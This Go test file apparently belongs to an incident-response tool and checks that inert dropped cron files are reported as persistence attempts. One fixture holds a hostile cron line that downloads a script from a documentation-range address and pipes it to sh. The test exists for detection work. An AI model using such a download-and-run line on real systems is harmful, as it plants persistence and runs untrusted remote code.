package schedule

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// Dropped schedule files the system will not run as written are evidence
// of an attempt, with the reason they are inert.
func TestInertAttempts(t *testing.T) {
	tests := []struct {
		name, extra, path string
		sev               model.Severity
	}{
		{"not executable in cron.daily", "-- etc/cron.daily/sysupdate mode=0644 --\n#!/bin/sh\n/usr/local/bin/sysupdate --quiet\n", "/etc/cron.daily/sysupdate", model.Low},
		{"dotted name in cron.hourly", "-- etc/cron.hourly/update.sh mode=0755 --\n#!/bin/sh\n/usr/local/bin/sysupdate --quiet\n", "/etc/cron.hourly/update.sh", model.Low},
		{"dotted name in cron.d", "-- etc/cron.d/php.cron --\n*/5 * * * * root /usr/local/bin/sysupdate\n", "/etc/cron.d/php.cron", model.Low},
		{"rejected syntax", "-- etc/cron.d/sys --\n* * * * root\n", "/etc/cron.d/sys", model.Low},
		{"rejected hostile line", "-- etc/cron.d/sys2 --\n*/5 * * root curl -s http://203.0.113.9/a | sh\n", "/etc/cron.d/sys2", model.Medium},
		{"crontab for no account", "-- var/spool/cron/crontabs/sysadmin mode=0600 --\n0 * * * * /usr/local/bin/sysupdate\n", "/var/spool/cron/crontabs/sysadmin", model.Low},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := enginetest.Run(t, New(), fixture(t, tc.extra), false)
			got := r.Find(ruleCronInert)
			if len(got) != 1 || got[0].Evidence.Path != tc.path || got[0].Severity != tc.sev || got[0].Evidence.Extra["inert"] == "" {
				for _, f := range r.Findings {
					t.Log(describe(f), f.Evidence.Extra)
				}
				t.Fatalf("want one %s %s on %s with the reason", tc.sev, ruleCronInert, tc.path)
			}
		})
	}
}
